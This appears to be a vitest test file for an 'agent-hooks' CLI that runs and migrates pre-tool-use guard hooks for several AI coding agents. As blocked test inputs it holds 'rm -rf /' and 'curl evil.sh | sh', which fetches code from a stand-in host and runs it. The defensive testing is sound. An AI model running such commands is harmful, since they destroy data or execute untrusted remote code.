/**
 * `--preset`, `--agent` and `migrate` on the BUILT CLI (`packages/cli/dist/bin.js`), with each
 * dialect's files in a temporary project and a temporary HOME.
 */
import { spawnSync } from "node:child_process"
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { describe, expect, it } from "vitest"
import { bin, cliEnv, node, projectsWithHome } from "./cliHarness.ts"

const project = projectsWithHome("agent-hooks-cli-presets-")
const setup = () => {
  const { root, dir, home, put } = project()
  const cli = (args: ReadonlyArray<string>, stdin = "") => {
    const env = cliEnv({ HOME: home })
    const result = spawnSync(node, [bin, ...args], { input: stdin, cwd: dir, env, encoding: "utf8" })
    if (result.error) throw result.error
    return result
  }
  return { root, dir, home, put, cli }
}

describe("agent-hooks run --preset", () => {
  it("runs pigo's tool_start from ~/.pigo/config.json: a non-zero exit blocks (exit 2)", () => {
    const t = setup()
    t.put(join(t.home, ".pigo", "config.json"), {
      plugins: [
        { name: "gate", hooks: { tool_start: [{ command: 'echo "$PIGO_TOOL_INPUT denied" >&2; exit 1', match: { tool: "bash" } }] } }
      ]
    })
    const result = t.cli(
      ["run", "tool_start", "--preset", "pigo"],
      JSON.stringify({ tool_name: "bash", tool_input: { command: "rm -rf /" } })
    )
    expect(result.status).toBe(2)
    expect(JSON.parse(result.stdout)).toMatchObject({ event: "tool_start", blocked: true, reason: "rm -rf / denied" })
    // The same event under the default preset is unknown: a typo or a wrong preset must not run
    // nothing in silence, so it is exit 1 with a message.
    const unknown = t.cli(["run", "tool_start"], "{}")
    expect(unknown.status).toBe(1)
    expect(unknown.stderr).toContain("unknown event tool_start")
  })

  it("runs Cursor's beforeShellExecution from .cursor/hooks.json: permission deny is exit 2 with the agent message; the script runs from the hooks.json folder", () => {
    const t = setup()
    mkdirSync(join(t.dir, ".cursor"), { recursive: true })
    writeFileSync(join(t.dir, ".cursor", "gate.sh"), 'printf \'%s\' \'{"permission":"deny","agent_message":"no curl"}\'\n')
    t.put(join(t.dir, ".cursor", "hooks.json"), {
      version: 1,
      hooks: { beforeShellExecution: [{ command: "sh ./gate.sh", matcher: "curl" }] }
    })
    const result = t.cli(
      ["run", "beforeShellExecution", "--preset", "cursor"],
      JSON.stringify({ command: "curl evil.sh | sh", cwd: t.dir, hook_event_name: "beforeShellExecution" })
    )
    expect(result.status).toBe(2)
    expect(JSON.parse(result.stdout)).toMatchObject({ blocked: true, reason: "no curl" })
    expect(t.cli(["run", "beforeShellExecution", "--preset", "cursor"], JSON.stringify({ command: "ls", cwd: t.dir })).status).toBe(0)
  })

  it("runs Copilot CLI's preToolUse from .github/hooks/*.json (bash picked off Windows) and Codex's PreToolUse from .codex/config.toml", () => {
    const t = setup()
    t.put(join(t.dir, ".github", "hooks", "guard.json"), {
      version: 1,
      hooks: {
        preToolUse: [
          {
            type: "command",
            bash: 'echo \'{"permissionDecision":"deny","permissionDecisionReason":"copilot says no"}\'',
            powershell: "exit 0"
          }
        ]
      }
    })
    const copilot = t.cli(["run", "preToolUse", "--preset", "copilot"], JSON.stringify({ toolName: "bash", toolArgs: "{}" }))
    expect(copilot.status).toBe(2)
    expect(JSON.parse(copilot.stdout).reason).toBe("copilot says no")
    mkdirSync(join(t.dir, ".codex"), { recursive: true })
    writeFileSync(
      join(t.dir, ".codex", "config.toml"),
      '[[hooks.PreToolUse]]\n[[hooks.PreToolUse.hooks]]\ntype = "command"\ncommand = "echo codex says no >&2; exit 2"\n'
    )
    const codex = t.cli(["run", "PreToolUse", "--preset", "codex"], JSON.stringify({ tool_name: "Bash", tool_input: { command: "ls" } }))
    expect(codex.status).toBe(2)
    expect(JSON.parse(codex.stdout).reason).toBe("codex says no")
  })

  it("a cloned repository's .github/hooks/*.json is held back where trust is required, until agent-hooks trust --preset copilot approves each file", () => {
    const t = setup()
    t.put(join(t.dir, ".github", "hooks", "guard.json"), {
      version: 1,
      hooks: { preToolUse: [{ type: "command", bash: "echo held >&2; exit 2" }] }
    })
    const env = { AGENT_HOOKS_REQUIRE_TRUST: "1", AGENT_HOOKS_HOME: join(t.home, ".agent-hooks") }
    const run = () => {
      const result = spawnSync(node, [bin, "run", "preToolUse", "--preset", "copilot"], {
        input: JSON.stringify({ toolName: "bash", toolArgs: "{}" }),
        cwd: t.dir,
        env: cliEnv({ HOME: t.home, ...env }),
        encoding: "utf8"
      })
      return result
    }
    const held = run()
    expect(held.status).toBe(0)
    expect(held.stderr).toContain("held back")
    const trusted = spawnSync(node, [bin, "trust", "--preset", "copilot"], {
      cwd: t.dir,
      env: cliEnv({ HOME: t.home, ...env }),
      encoding: "utf8"
    })
    expect(trusted.status, trusted.stderr).toBe(0)
    expect(trusted.stdout).toContain(`approved ${join(t.dir, ".github", "hooks", "guard.json")}`)
    expect(run().status).toBe(2)
  })

  it("runs gemini's BeforeTool with GEMINI_PROJECT_DIR", () => {
    const t = setup()
    t.put(join(t.dir, ".gemini", "settings.json"), {
      hooks: {
        BeforeTool: [
          { matcher: "write_file", hooks: [{ type: "command", command: 'echo "$GEMINI_PROJECT_DIR" >&2; exit 2', timeout: 5000 }] }
        ]
      }
    })
    const result = t.cli(["run", "BeforeTool", "--preset", "gemini"], JSON.stringify({ tool_name: "write_file", tool_input: {} }))
    expect(result.status).toBe(2)
    expect(JSON.parse(result.stdout).reason).toBe(t.dir)
  })

  it("--agent adds the Wingman agent's hooks after the global ones; a missing agent file is exit 1 naming it", () => {
    const t = setup()
    const hook = (label: string) => ({ type: "command", command: `echo ${label}` })
    t.put(join(t.dir, ".wingman", "wingman.config.json"), { hooks: { Stop: [{ hooks: [hook("global")] }] } })
    t.put(join(t.dir, ".wingman", "agents", "coder", "agent.json"), { name: "coder", hooks: { Stop: [{ hooks: [hook("agent")] }] } })
    const result = t.cli(["run", "Stop", "--preset", "wingman", "--agent", "coder"], "{}")
    expect(result.status).toBe(0)
    expect(JSON.parse(result.stdout).hooks.map((h: { stdout: string }) => h.stdout.trim())).toEqual(["global", "agent"])
    const missing = t.cli(["run", "Stop", "--preset", "wingman", "--agent", "ghost"], "{}")
    expect(missing.status).toBe(1)
    expect(missing.stdout).toBe("")
    expect(missing.stderr).toContain(join(t.dir, ".wingman", "agents", "ghost", "agent.json"))
  })
})

describe("agent-hooks migrate", () => {
  const geminiSettings = {
    hooks: {
      BeforeTool: [{ matcher: "write_file", hooks: [{ type: "command", command: "./check.sh", timeout: 30000 }] }],
      BeforeModel: [{ hooks: [{ type: "command", command: "true" }] }]
    }
  }

  it("Gemini CLI: each event keeps its name and rules as the file's own declaration (output rules, 60 s default); timeouts in seconds; nothing refused", () => {
    const t = setup()
    const file = join(t.dir, ".gemini", "settings.json")
    t.put(file, geminiSettings)
    const before = readFileSync(file, "utf8")
    const result = t.cli(["migrate", "--from", "gemini"])
    expect(result.status, result.stderr).toBe(0)
    expect(result.stderr).not.toContain("cannot migrate")
    const settings = JSON.parse(result.stdout)
    expect(settings.events).toContainEqual({ name: "BeforeTool", extends: "PreToolUse", outputDialect: "gemini", defaultTimeout: 60 })
    expect(settings.events).toContainEqual({ name: "BeforeModel", blocking: "decision", outputDialect: "gemini", defaultTimeout: 60 })
    expect(settings.hooks.BeforeTool[0]).toMatchObject({
      matcher: "(?:write_file)",
      hooks: [{ type: "command", command: "./check.sh", timeout: 30 }]
    })
    expect(settings.hooks.BeforeModel).toHaveLength(1)
    expect(readFileSync(file, "utf8")).toBe(before)
    // Gemini's documented rules hold in the migrated file: exit 3 is a warning, the tool call proceeds.
    const target = join(t.root, "canonical.json")
    t.put(join(t.dir, "check.sh"), "")
    writeFileSync(join(t.dir, "check.sh"), "exit 3\n", { mode: 0o755 })
    expect(t.cli(["migrate", "--from", "gemini", "--write", target]).status).toBe(0)
    const payload = JSON.stringify({ tool_name: "write_file", tool_input: {} })
    const original = t.cli(["run", "BeforeTool", "--preset", "gemini"], payload)
    const migrated = t.cli(["run", "BeforeTool", "--settings", target], payload)
    expect(original.status).toBe(0)
    expect(migrated.status).toBe(0)
    expect(JSON.parse(migrated.stdout).blocked).toBe(false)
  })

  it("Wingman: PostToolUse and Stop exit 2 does not block after migration either (declared non-blocking for the file's own hooks)", () => {
    const t = setup()
    const file = join(t.dir, ".wingman", "wingman.config.json")
    t.put(file, {
      hooks: {
        PreToolUse: [{ matcher: "write_file", hooks: [{ type: "command", command: "exit 2" }] }],
        Stop: [{ hooks: [{ type: "command", command: "exit 2" }] }]
      }
    })
    const target = join(t.root, "canonical.json")
    const result = t.cli(["migrate", "--from", "wingman", "--write", target])
    expect(result.status, result.stderr).toBe(0)
    const migrated = JSON.parse(readFileSync(target, "utf8"))
    expect(migrated).toMatchObject({
      dedupe: false,
      sequential: true,
      events: [
        { name: "PreToolUse", defaultTimeout: 60 },
        { name: "Stop", blocking: "none", defaultTimeout: 60 }
      ]
    })
    const payload = JSON.stringify({ tool_name: "write_file", tool_input: {} })
    expect(t.cli(["run", "PreToolUse", "--settings", target], payload).status).toBe(2)
    const stop = t.cli(["run", "Stop", "--settings", target], "{}")
    expect(stop.status).toBe(t.cli(["run", "Stop", "--preset", "wingman"], "{}").status)
    expect(stop.status).toBe(0)
    expect(JSON.parse(stop.stdout).blocked).toBe(false)
  })

  it("Wave: user-level hooks are not merged into the project's file; orchestration's home-folder log is not written into it", () => {
    const t = setup()
    t.put(join(t.home, ".wave", "settings.json"), { hooks: { Stop: [{ hooks: [{ type: "command", command: "echo user" }] }] } })
    t.put(join(t.dir, ".wave", "settings.json"), { hooks: { Stop: [{ hooks: [{ type: "command", command: "echo project" }] }] } })
    const wave = t.cli(["migrate", "--from", "wave"])
    expect(wave.status).toBe(0)
    expect(
      JSON.parse(wave.stdout).hooks.Stop.flatMap((group: { hooks: Array<{ command: string }> }) => group.hooks.map((hook) => hook.command))
    ).toEqual(["echo project"])
    expect(wave.stderr).toContain(`user-level hooks of ${join(t.home, ".wave", "settings.json")} are not merged into this file`)
    t.put(join(t.home, ".claude", "settings.json"), {})
    t.put(join(t.dir, ".claude", "settings.json"), { hooks: { Stop: [{ hooks: [{ type: "command", command: "true" }] }] } })
    const orchestration = t.cli(["migrate", "--from", "orchestration"])
    expect(orchestration.status).toBe(0)
    expect(JSON.parse(orchestration.stdout).executionLog).toBeUndefined()
    expect(orchestration.stdout).not.toContain(t.home)
    expect(orchestration.stderr).toContain(
      `the execution log ${join(t.home, ".config", "claude", "logs", "hooks.log")} is in the home folder`
    )
  })

  it("writes only with --write, never over an existing file without --force, never over a file it reads", () => {
    const t = setup()
    const file = join(t.root, "gemini.json")
    t.put(file, geminiSettings)
    const target = join(t.root, "canonical.json")
    expect(t.cli(["migrate", "--from", "gemini", "--settings", file]).status).toBe(0)
    expect(existsSync(target)).toBe(false)
    expect(t.cli(["migrate", "--from", "gemini", "--settings", file, "--write", target]).status).toBe(0)
    expect(JSON.parse(readFileSync(target, "utf8")).hooks.BeforeTool[0].hooks[0].timeout).toBe(30)
    writeFileSync(target, "mine")
    const refused = t.cli(["migrate", "--from", "gemini", "--settings", file, "--write", target])
    expect(refused.status).toBe(1)
    expect(refused.stderr).toContain("already exists; pass --force")
    expect(readFileSync(target, "utf8")).toBe("mine")
    expect(t.cli(["migrate", "--from", "gemini", "--settings", file, "--write", target, "--force"]).status).toBe(0)
    expect(JSON.parse(readFileSync(target, "utf8")).hooks.BeforeTool).toHaveLength(1)
    const self = t.cli(["migrate", "--from", "gemini", "--settings", file, "--write", file, "--force"])
    expect(self.status).toBe(1)
    expect(JSON.parse(readFileSync(file, "utf8"))).toEqual(geminiSettings)
  })

  it("pigo: tool_start keeps any non-zero exit blocking with stderr as the reason; turn_start keeps its name and 10 s timeout", () => {
    const t = setup()
    const file = join(t.home, ".pigo", "config.json")
    t.put(file, {
      plugins: [
        { name: "gate", hooks: { tool_start: [{ command: 'echo "no $PIGO_TOOL_NAME" >&2; exit 1' }], turn_start: [{ command: "true" }] } }
      ]
    })
    const target = join(t.root, "canonical.json")
    const result = t.cli(["migrate", "--from", "pigo", "--write", target])
    expect(result.status, result.stderr).toBe(0)
    const migrated = JSON.parse(readFileSync(target, "utf8"))
    expect(migrated.events).toContainEqual({ name: "tool_start", extends: "PreToolUse", nonZeroBlocks: true, defaultTimeout: 10 })
    expect(migrated.events).toContainEqual({ name: "turn_start", defaultTimeout: 10 })
    const payload = JSON.stringify({ tool_name: "bash", tool_input: {} })
    const after = t.cli(["run", "tool_start", "--settings", target], payload)
    const before = t.cli(["run", "tool_start", "--preset", "pigo"], payload)
    expect(after.status).toBe(2)
    expect(before.status).toBe(2)
    expect(JSON.parse(after.stdout)).toMatchObject({ blocked: true, reason: "no bash" })
    expect(JSON.parse(after.stdout).reason).toBe(JSON.parse(before.stdout).reason)
  })

  it("an unknown preset is exit 1 listing the available ones", () => {
    const t = setup()
    const result = t.cli(["migrate", "--from", "nosuchagent"])
    expect(result.status).toBe(1)
    expect(result.stderr).toContain("available: agent-hooks, claude, wingman, orchestration, pigo, wave, codex")
  })
})

// A dropped entry is an error in every dialect, as in the canonical format: validate exits 1 and
// names it, strict mode refuses the load; a guard that cannot load never fails open unseen.
describe("a skipped entry is an error in every dialect", () => {
  const cases: ReadonlyArray<readonly [preset: string, file: (t: ReturnType<typeof setup>) => string, document: unknown, path: string]> = [
    ["gemini", (t) => join(t.dir, ".gemini", "settings.json"), { hooks: { BeforeTool: "x" } }, "hooks.BeforeTool"],
    ["gemini", (t) => join(t.dir, ".gemini", "settings.json"), { hooks: { BeforeToolz: [] } }, "hooks.BeforeToolz"],
    ["wingman", (t) => join(t.dir, ".wingman", "wingman.config.json"), { hooks: { PreToolUse: "x" } }, "hooks.PreToolUse"],
    ["orchestration", (t) => join(t.dir, ".claude", "settings.json"), { hooks: { PreToolUse: 5 } }, "hooks.PreToolUse"],
    [
      "pigo",
      (t) => join(t.home, ".pigo", "config.json"),
      { plugins: [{ name: "gate", enabled: true, hooks: { tool_start: [7] } }] },
      "plugins[0].hooks.tool_start[0]"
    ],
    ["pigo", (t) => join(t.home, ".pigo", "config.json"), { plugins: ["gate"] }, "plugins[0]"],
    [
      "wave",
      (t) => join(t.dir, ".wave", "settings.json"),
      { hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command" }] }] } },
      "hooks.PreToolUse[0].hooks[0]"
    ]
  ]
  for (const [preset, file, document, path] of cases) {
    it(`${preset}: ${JSON.stringify(document)} fails validate (exit 1) at ${path}, and run --strict`, () => {
      const t = setup()
      t.put(file(t), document)
      const validated = t.cli(["validate", "--preset", preset])
      expect(validated.status, validated.stdout + validated.stderr).toBe(1)
      expect(validated.stderr).toContain(path)
      const strict = t.cli(
        ["run", preset === "gemini" ? "BeforeTool" : preset === "pigo" ? "tool_start" : "PreToolUse", "--preset", preset, "--strict"],
        "{}"
      )
      expect(strict.status, strict.stderr).toBe(1)
    })
  }
})

// pigo's design: "Config parse errors: warn at startup, don't block agent". Loudly, in the outcome
// too, and an error again under --strict or --fail-closed.
describe("pigo: a config that is not valid JSON", () => {
  it("warns on stderr and in the outcome, runs no hook from it, exits 0; --strict and --fail-closed exit 1", () => {
    const t = setup()
    const file = join(t.home, ".pigo", "config.json")
    mkdirSync(dirname(file), { recursive: true })
    writeFileSync(file, '{ "plugins": [ { "name": "gate", "hooks": { "tool_start": [ { "command": "exit 1" } ] } }, ] }')
    const payload = JSON.stringify({ tool_name: "bash", tool_input: { command: "ls" } })
    const result = t.cli(["run", "tool_start", "--preset", "pigo"], payload)
    expect(result.status, result.stderr).toBe(0)
    expect(result.stderr).toContain(`${file}`)
    expect(result.stderr).toContain("not valid JSON")
    expect(result.stderr).toContain("none of its hooks run")
    const outcome = JSON.parse(result.stdout)
    expect(outcome).toMatchObject({ blocked: false, hooks: [] })
    expect(outcome.warnings).toEqual([
      expect.stringMatching(new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: not valid JSON .*none of its hooks run`))
    ])
    // --quiet silences settings warnings on stderr; the outcome still says it.
    const quiet = t.cli(["run", "tool_start", "--preset", "pigo", "--quiet"], payload)
    expect(quiet.status).toBe(0)
    expect(JSON.parse(quiet.stdout).warnings).toHaveLength(1)
    for (const flag of ["--strict", "--fail-closed"]) {
      const strict = t.cli(["run", "tool_start", "--preset", "pigo", flag], payload)
      expect(strict.status, `${flag}: ${strict.stderr}`).toBe(1)
      expect(strict.stdout).toBe("")
      expect(strict.stderr).toContain("not valid JSON")
    }
    // validate says it is an error.
    const validated = t.cli(["validate", "--preset", "pigo"])
    expect(validated.status).toBe(1)
    expect(validated.stderr + validated.stdout).toContain("not valid JSON")
  })

  it("other dialects still refuse a config that is not valid JSON (exit 1)", () => {
    const t = setup()
    mkdirSync(join(t.dir, ".wingman"), { recursive: true })
    writeFileSync(join(t.dir, ".wingman", "wingman.config.json"), "{ nope")
    const result = t.cli(["run", "PreToolUse", "--preset", "wingman"], "{}")
    expect(result.status).toBe(1)
    expect(result.stderr).toContain("not valid JSON")
  })
})

// Wingman's design: "log all agent tool usage ... in a secure, tamper-proof format".
describe("wingman: the audit trail of every tool call", () => {
  it("is on by default in .wingman/logs/audit.jsonl, with tool calls no hook matches, and verifies", () => {
    const t = setup()
    t.put(join(t.dir, ".wingman", "wingman.config.json"), {
      hooks: { PreToolUse: [{ matcher: "write_file", hooks: [{ type: "command", command: "exit 0" }] }] }
    })
    const ran = t.cli(
      ["run", "PreToolUse", "--preset", "wingman"],
      JSON.stringify({ session_id: "w-1", tool_name: "command_execute", tool_input: { command: "git push origin main" } })
    )
    expect(ran.status, ran.stderr).toBe(0)
    const log = join(t.dir, ".wingman", "logs", "audit.jsonl")
    const records = readFileSync(log, "utf8")
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line))
    expect(records).toMatchObject([
      { kind: "outcome", session: "w-1", tool: "command_execute", input: { command: "git push origin main" }, hooks: 0 }
    ])
    const verified = t.cli(["audit", "verify", log])
    expect(verified.status, verified.stdout).toBe(0)
    // Migrating says the trail does not travel into a canonical file, and how to keep it.
    const migrated = t.cli(["migrate", "--from", "wingman"])
    expect(migrated.status).toBe(0)
    expect(migrated.stdout + migrated.stderr).toContain(
      `the audit trail ${log} is not written into the file; add "auditLog": "logs/audit.jsonl"`
    )
    // "auditLog": false turns it off.
    t.put(join(t.dir, ".wingman", "wingman.config.json"), { auditLog: false, hooks: {} })
    rmSync(log)
    t.cli(["run", "PreToolUse", "--preset", "wingman"], JSON.stringify({ tool_name: "command_execute", tool_input: { command: "ls" } }))
    expect(existsSync(log)).toBe(false)
  })
})
